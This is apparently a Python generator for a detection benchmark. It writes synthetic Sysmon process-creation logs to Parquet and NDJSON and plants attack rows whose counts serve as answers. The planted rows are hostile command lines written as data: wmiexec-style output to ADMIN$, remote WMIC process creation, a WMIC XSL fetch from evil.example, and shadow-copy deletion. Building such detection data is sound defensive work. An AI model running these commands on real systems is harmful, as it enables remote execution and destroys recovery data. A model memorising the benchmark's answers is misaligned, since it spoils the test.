"""The lake of the benchmark: process telemetry as Sysmon writes it, with planted attacks whose numbers are known.

Seeded: the same options give the same rows. Parquet first, then the same rows as NDJSON.gz.
"""

import json
import os

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq

DAY = np.datetime64("2026-01-01T00:00:00", "us")
CHUNK = 250_000
FOLDERS = ["Windows\\System32", "Windows\\SysWOW64", "Program Files\\Google\\Chrome\\Application", "Program Files\\Microsoft Office\\root\\Office16",
           "Program Files (x86)\\Microsoft\\Edge\\Application", "ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18", "Program Files\\7-Zip",
           "Program Files\\Git\\cmd", "Windows\\Microsoft.NET\\Framework64\\v4.0.30319", "Program Files\\nodejs"]
PROGRAMS = ["svchost.exe", "cmd.exe", "powershell.exe", "conhost.exe", "rundll32.exe", "msedge.exe", "chrome.exe", "taskhostw.exe", "WmiPrvSE.exe",
            "git.exe", "node.exe", "python.exe", "7z.exe", "OUTLOOK.EXE", "WINWORD.EXE", "EXCEL.EXE", "msiexec.exe", "schtasks.exe", "reg.exe",
            "net.exe", "net1.exe", "ipconfig.exe", "sc.exe", "wevtutil.exe", "csc.exe", "MsMpEng.exe", "SearchProtocolHost.exe", "dllhost.exe",
            "backgroundTaskHost.exe", "RuntimeBroker.exe", "consent.exe", "certutil.exe", "findstr.exe", "tasklist.exe", "wmic.exe", "regsvr32.exe"]
# Command lines with what makes each its own: %n a number, %h hex, %g a GUID, %u a user, %d a date.
TEMPLATES = [
    "{image} -k netsvcs -p -s Schedule%n", "{image} /c \"C:\\Program Files\\Agent\\run-%n.cmd\" --task %g --quiet",
    "{image} -NoProfile -NonInteractive -ExecutionPolicy Bypass -File C:\\ProgramData\\Inventory\\collect-%n.ps1 -Session %g",
    "\"C:\\{folder}\\{program}\" --type=renderer --field-trial-handle=%n,%n,%n,262144 --lang=en-US --device-scale-factor=1 --mojo-platform-channel-handle=%n",
    "\"C:\\{folder}\\{program}\" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=de --service-sandbox-type=none --user-data-dir=C:\\Users\\%u\\AppData\\Local\\%h",
    "{image} C:\\Windows\\Installer\\MSI%h.tmp,zzzzInvokeManagedCustomActionOutOfProc SfxCA_%n %n", "{image} fetch --no-tags --depth=%n origin +refs/heads/topic/%h",
    "{image} C:\\build\\agent\\_work\\%n\\s\\tools\\step.js --out C:\\Users\\%u\\AppData\\Local\\Temp\\%h.json --trace %g",
    "{image} -m pytest tests/unit/test_%h.py -k case_%n --junitxml=C:\\build\\%n\\report.xml", "{image} x C:\\Users\\%u\\Downloads\\package-%n.zip -oC:\\Temp\\%h -y",
    "{image} /Create /TN \\Vendor\\Update-%g /TR \"C:\\Program Files\\Vendor\\update.exe /id %n\" /SC DAILY /F", "{image} query HKLM\\SOFTWARE\\Vendor\\%h /v Version%n",
    "{image} qe System /c:%n /rd:true /f:text /q:*[System[(EventID=%n)]]", "{image} /noconfig /fullpaths @\"C:\\Users\\%u\\AppData\\Local\\Temp\\%h.cmdline\"",
    "\"C:\\{folder}\\{program}\" /n \"C:\\Users\\%u\\Documents\\Report %d (%n).docx\" /o \"\"", "{image} -ServerName:App.AppX%h.mca", "{image} 0xffffffff -ForceV1 %n",
    "\"C:\\{folder}\\{program}\" Global\\UsGthrFltPipeMssGthrPipe%n_ Global\\UsGthrCtrlFltPipeMssGthrPipe%n 1 -%n", "{image} /f:\"C:\\Logs\\svc-%d-%n.log\" /i /c:\"request %h failed\"",
    "{image} /Processid:{%g}", "{image} scan -ScheduleJob -RestrictPrivileges -Id %n -Reason %h", "{image} stop svc-%h & {image} start svc-%h",
    "{image} user svc_%h /domain & {image} group \"Ops %n\" /domain", "{image} -urlcache -f http://repo.corp.example/packages/%h/%n.cab C:\\Temp\\%h.cab",
]
PARENTS = ["C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\services.exe", "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\cmd.exe",
           "C:\\Program Files\\Agent\\agent.exe", "C:\\Windows\\System32\\taskhostw.exe", "C:\\Program Files\\Git\\cmd\\git.exe", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
           "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "C:\\Program Files\\nodejs\\node.exe"]
WMIC = "C:\\Windows\\System32\\wbem\\WMIC.exe"
SYSTEM = "NT AUTHORITY\\SYSTEM"


def filled(template, image, random):
    """A command line of a template; the random parts come from one integer stream."""
    text = template.replace("{image}", image).replace("{program}", image.rsplit("\\", 1)[1]).replace("{folder}", image.split("\\", 1)[1].rsplit("\\", 1)[0])
    parts = text.split("%")
    out = [parts[0]]
    for part in parts[1:]:
        word = random()
        kind = part[:1]
        if kind == "n":
            out.append(str(word % 100_000))
        elif kind == "h":
            out.append(f"{word % (1 << 40):010x}")
        elif kind == "g":
            out.append(f"{word % (1 << 32):08x}-{random() % (1 << 16):04x}-4{word % 4096:03x}-9f1c-{random() % (1 << 48):012x}")
        elif kind == "u":
            out.append(f"user{word % 4000:04d}")
        elif kind == "d":
            out.append(f"2026-01-{1 + word % 28:02d}")
        else:
            out.append("%" + kind)
        out.append(part[1:])
    return "".join(out)


def words(generator):
    """Random integers one by one, drawn in bulk."""
    while True:
        yield from generator.integers(0, 1 << 62, 65_536).tolist()


def planted(rows, generator):
    """Attacks as (row, image, command line, parent, kind); their numbers are the known answers."""
    sessions = max(3, rows // 33_000)
    out = []
    for session in range(sessions):
        stamp = f"{1767225600 + int(generator.integers(0, 86_000))}.{int(generator.integers(10**6, 10**7))}"
        for command in range(2 + int(generator.integers(0, 6))):
            text = f"cmd.exe /Q /c whoami /priv /fo {session}-{command} 1> \\\\127.0.0.1\\ADMIN$\\__{stamp} 2>&1"
            out.append(("wmiexec", "C:\\Windows\\System32\\cmd.exe", text, PARENTS[7], session % 3000))
    for kind, text in [("node", "wmic /node:10.1.{a}.{b} process list brief"), ("node_call", "WMIC.exe /node:\"10.9.{a}.{b}\" process call create \"cmd.exe /c calc{a}\""),
                       ("format", "wmic os get /format:\"http://evil.example/{a}.xsl\""), ("shadow", "wmic shadowcopy delete /nointeractive {a}")]:
        for number in range(sessions):
            out.append((kind, WMIC, text.format(a=number % 250, b=number % 199), PARENTS[3], number % 3000))
    places = np.sort(generator.choice(rows, len(out), replace=False))
    order = generator.permutation(len(out))
    counts = {}
    for attack in out:
        counts[attack[0]] = counts.get(attack[0], 0) + 1
    counts["wmiexec_sessions"] = sessions
    return {int(place): out[int(index)] for place, index in zip(places, order)}, counts


SCHEMA = pa.schema([
    ("EventID", pa.int64()), ("Channel", pa.string()), ("Computer", pa.string()), ("EventRecordID", pa.int64()), ("UtcTime", pa.timestamp("us", "UTC")),
    ("ProcessGuid", pa.string()), ("ProcessId", pa.int64()), ("Image", pa.string()), ("OriginalFileName", pa.string()), ("CommandLine", pa.string()),
    ("CurrentDirectory", pa.string()), ("User", pa.string()), ("LogonId", pa.string()), ("IntegrityLevel", pa.string()), ("Hashes", pa.string()),
    ("ParentProcessGuid", pa.string()), ("ParentProcessId", pa.int64()), ("ParentImage", pa.string()), ("ParentCommandLine", pa.string()),
])


def chunk(first, count, rows, distinct, common, attacks, generator, random):
    take = generator.integers
    images = [f"C:\\{FOLDERS[f]}\\{PROGRAMS[p]}" for f, p in zip((take(0, len(FOLDERS), count) * (take(0, 3, count) == 0)).tolist(), take(0, len(PROGRAMS), count).tolist())]
    own = (generator.random(count) < distinct).tolist()
    drawn = np.minimum(generator.zipf(1.3, count), len(common)).tolist()
    templates = take(0, len(TEMPLATES), count).tolist()
    hosts = take(0, 3000, count).tolist()
    parents = take(0, len(PARENTS), count).tolist()
    users = take(0, 4000, count).tolist()
    commands, parent_images, is_system = [], [PARENTS[p] for p in parents], [u % 3 == 0 for u in users]
    for row in range(count):
        if own[row]:
            commands.append(filled(TEMPLATES[templates[row]], images[row], random))
        else:
            image, text = common[drawn[row] - 1]
            images[row] = image
            commands.append(text)
    for row in range(count):
        attack = attacks.get(first + row)
        if attack:
            _, images[row], commands[row], parent_images[row], hosts[row] = attack
    times = DAY + (np.arange(first, first + count) * (86_400_000_000 // rows)).astype("timedelta64[us]")
    guids = take(0, 1 << 62, count).tolist()
    names = [image.rsplit("\\", 1)[1] for image in images]
    hashes = [f"MD5={hash_of(name):032X},SHA256={hash_of(name) * 7:064X},IMPHASH={hash_of(name) * 3:032X}" for name in names]
    columns = [
        pa.array(np.ones(count, dtype=np.int64)), pa.array(["Microsoft-Windows-Sysmon/Operational"] * count), pa.array([f"WS-{h:04d}.corp.example" for h in hosts]),
        pa.array(np.arange(first + 1, first + count + 1)), pa.array(times, pa.timestamp("us", "UTC")),
        pa.array([f"{{{g % (1 << 32):08x}-{g % 65536:04x}-6abc-0000-{g >> 14:012x}}}" for g in guids]), pa.array(take(4, 60_000, count)), pa.array(images),
        pa.array(names), pa.array(commands), pa.array([f"C:\\Users\\user{u:04d}\\" if not s else "C:\\Windows\\system32\\" for u, s in zip(users, is_system)]),
        pa.array([SYSTEM if s else f"CORP\\user{u:04d}" for u, s in zip(users, is_system)]), pa.array([f"0x{g % 16_000_000:x}" for g in guids]),
        pa.array(["System" if s else "Medium" for s in is_system]), pa.array(hashes),
        pa.array([f"{{{g % (1 << 31):08x}-{p:04x}-6abc-0000-00000000{p:04x}}}" for g, p in zip(guids, parents)]), pa.array(take(4, 60_000, count)),
        pa.array(parent_images), pa.array([p + (" -Embedding" if n % 3 else f" --batch {n % 5000}") for p, n in zip(parent_images, guids)]),
    ]
    return pa.Table.from_arrays(columns, schema=SCHEMA)


def hash_of(name):
    number = 14695981039346656037
    for byte in name.encode():
        number = (number ^ byte) * 1099511628211 % (1 << 124)
    return number


def make(folder, rows, distinct, seed):
    """Writes the lake once; says the known answers."""
    done = os.path.join(folder, "answers.json")
    if os.path.exists(done):
        with open(done) as file:
            return json.load(file)
    generator = np.random.default_rng(seed)
    stream = words(np.random.default_rng(seed + 1))
    random = stream.__next__
    pick = np.random.default_rng(seed + 2).integers
    common = []
    for number in range(20_000):
        image = f"C:\\{FOLDERS[int(pick(0, len(FOLDERS)))] if number % 3 == 0 else FOLDERS[0]}\\{PROGRAMS[number % len(PROGRAMS)]}"
        common.append((image, filled(TEMPLATES[int(pick(0, len(TEMPLATES)))], image, random)))
    attacks, answers = planted(rows, generator)
    parquet = os.path.join(folder, "parquet", "day=2026-01-01")
    os.makedirs(parquet, exist_ok=True)
    files = max(4, rows // 1_000_000)
    per_file = -(-rows // files)
    for number in range(files):
        first, last = number * per_file, min(rows, (number + 1) * per_file)
        path = os.path.join(parquet, f"part-{number:03d}.parquet")
        with pq.ParquetWriter(path, SCHEMA, compression="zstd") as writer:
            for start in range(first, last, CHUNK):
                table = chunk(start, min(CHUNK, last - start), rows, distinct, common, attacks, generator, random)
                writer.write_table(table, row_group_size=CHUNK)
    ndjson(folder, parquet, files)
    with open(done, "w") as file:
        json.dump(answers, file)
    return answers


def ndjson(folder, parquet, files):
    import duckdb

    target = os.path.join(folder, "ndjson", "day=2026-01-01")
    os.makedirs(target, exist_ok=True)
    duckdb.sql("SET threads = 2; SET preserve_insertion_order = true; SET TimeZone = 'UTC'")
    for number in range(files):
        # Sysmon's own way to write a time.
        duckdb.sql(f"""COPY (SELECT * REPLACE (strftime(UtcTime, '%Y-%m-%d %H:%M:%S.%g') AS UtcTime) FROM read_parquet('{parquet}/part-{number:03d}.parquet'))
                       TO '{target}/part-{number:03d}.ndjson.gz' (FORMAT json, COMPRESSION gzip)""")
